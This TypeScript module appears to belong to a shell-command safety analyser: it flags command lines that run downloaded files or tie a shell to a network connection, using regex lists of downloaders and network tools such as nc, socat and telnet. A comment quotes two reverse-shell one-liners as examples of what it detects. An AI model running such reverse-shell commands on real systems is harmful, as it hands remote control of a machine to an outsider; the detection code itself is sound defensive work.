import type { StatedPath, Statement, StatementOf } from '../../actions/action.ts';
import { addressesRun } from './flowAddresses.ts';
import { publications, pushesElsewhere } from './flowUploads.ts';
import { joinPath } from '../state/scope.ts';

/**
 * What the statements of one command line mean together, whatever their order: a file that was downloaded and is
 * run, a shell whose input and output are a connection, a program that publishes what lies here.
 */
export function concludeFlow(statements: readonly Statement[]): Statement[] {
  return [
    ...downloadsRun(statements),
    ...shellsOnConnections(statements),
    ...publications(statements),
    ...pushesElsewhere(statements),
    ...addressesRun(statements),
  ];
}

const downloader =
  /^(?:curl|wget2?|aria2c|axel|https?|xhs?|httpie|curlie|fetch|lwp-request|GET|httpx|lynx|w3m)$/;
const transfer =
  /^(?:scp|pscp|rsync|rclone|sftp|lftp|ftp|tftp|aws|gsutil|az|gcloud|nc|ncat|netcat|socat)$/;
const copier = /^(?:cp|gcp|mv|gmv|ln|link|install|dd|rsync|scp|tee|sponge|cat|rename)$/;

function downloadsRun(statements: readonly Statement[]): Statement[] {
  const arrivals = new Set<string>();
  for (const statement of statements) {
    if (statement.kind !== 'write') continue;
    const program = firstWord(statement.via);
    const fetched =
      statement.origin === 'download' ||
      downloader.test(program) ||
      (transfer.test(program) &&
        statements.some((s) => s.kind === 'connect' && s.via === statement.via && !s.sends));
    const path = absolutePath(statement.path);
    if (fetched && path !== null) arrivals.add(path);
  }
  if (arrivals.size === 0) return [];
  followCopies(statements, arrivals);
  const found = executed(statements).find(({ path }) => arrivals.has(path));
  return found === undefined
    ? []
    : [{ kind: 'unresolved', why: 'runs code from a download', via: found.program.slice(0, 80) }];
}

/** Copies of what arrived arrive too. Each call of a program starts with its `run`. */
function followCopies(statements: readonly Statement[], arrivals: Set<string>): void {
  const calls: Statement[][] = [[]];
  for (const statement of statements) {
    if (statement.kind === 'run') calls.push([]);
    calls.at(-1)?.push(statement);
  }
  const copies = calls.flatMap((call) => {
    const paths = (kind: 'read' | 'write'): string[] =>
      call.flatMap((s) =>
        s.kind === kind && copier.test(s.via) ? [absolutePath(s.path) ?? ''] : [],
      );
    const [from, to] = [paths('read'), paths('write')];
    return from.length > 0 && to.length > 0 ? [{ from, to }] : [];
  });
  for (let round = 0, size = -1; round < 8 && size !== arrivals.size; round += 1) {
    size = arrivals.size;
    for (const { from, to } of copies) {
      if (from.some((path) => arrivals.has(path))) for (const path of to) arrivals.add(path);
    }
  }
  arrivals.delete('');
}

function executed(statements: readonly Statement[]): { path: string; program: string }[] {
  const programs = new Set(
    statements.flatMap((s) => (s.kind === 'run' && !s.program.startsWith('-') ? [s.program] : [])),
  );
  return statements.flatMap((s) => {
    if (s.kind !== 'read' || !programs.has(s.path.text)) return [];
    const path = absolutePath(s.path);
    return path === null ? [] : [{ path, program: s.path.text }];
  });
}

const shell = /^(?:(?:ba|z|da|k|mk|a|c|tc|fi|rba)?sh|busybox|toybox|python[\d.]*|perl|ruby|php)$/;
const rawConnection = /^(?:nc|ncat|netcat|nc\.\w+|socat1?|telnet|openssl s_client)$/;

/**
 * `mkfifo f; sh < f | nc host port > f` and `nc host 1 | sh | nc host 2`: code that nobody sees goes into a shell
 * and its answers into a connection.
 */
function shellsOnConnections(statements: readonly Statement[]): Statement[] {
  const blind = statements.flatMap((s) =>
    s.kind === 'unresolved' && /^(?:runs code (?:that|from)|cannot tell which program)/.test(s.why)
      ? [firstWord(s.via)]
      : [],
  );
  const [first] = blind;
  if (first === undefined) return [];
  const connections = statements.filter((s): s is StatementOf<'connect'> => s.kind === 'connect');
  const device = connections.some((s) => s.via.startsWith('/dev/'));
  const raw = connections.filter((s) => rawConnection.test(s.via));
  const loops = statements.some(
    (s) => s.kind === 'run' && /(?:^|\/)(?:mkfifo|mknod)$/.test(s.program),
  );
  const calls = statements.filter(
    (s) => s.kind === 'run' && rawConnection.test(s.program.replace(/^.*\//, '')),
  );
  const inShell = blind.some((via) => shell.test(via));
  const tied =
    device ||
    (inShell && ((raw.length > 0 && loops) || calls.length > 1 || raw.some((s) => s.sends)));
  return tied ? [{ kind: 'expose', why: 'a shell is tied to a connection', via: first }] : [];
}

function firstWord(via: string): string {
  return via.split(' ')[0] ?? via;
}

/** Lexical absolute form of a stated path, or null where its directory is not known. */
function absolutePath(path: StatedPath): string | null {
  if (path.text.startsWith('/')) return joinPath('/', path.text);
  return path.cwd === null ? null : joinPath(path.cwd, path.text);
}
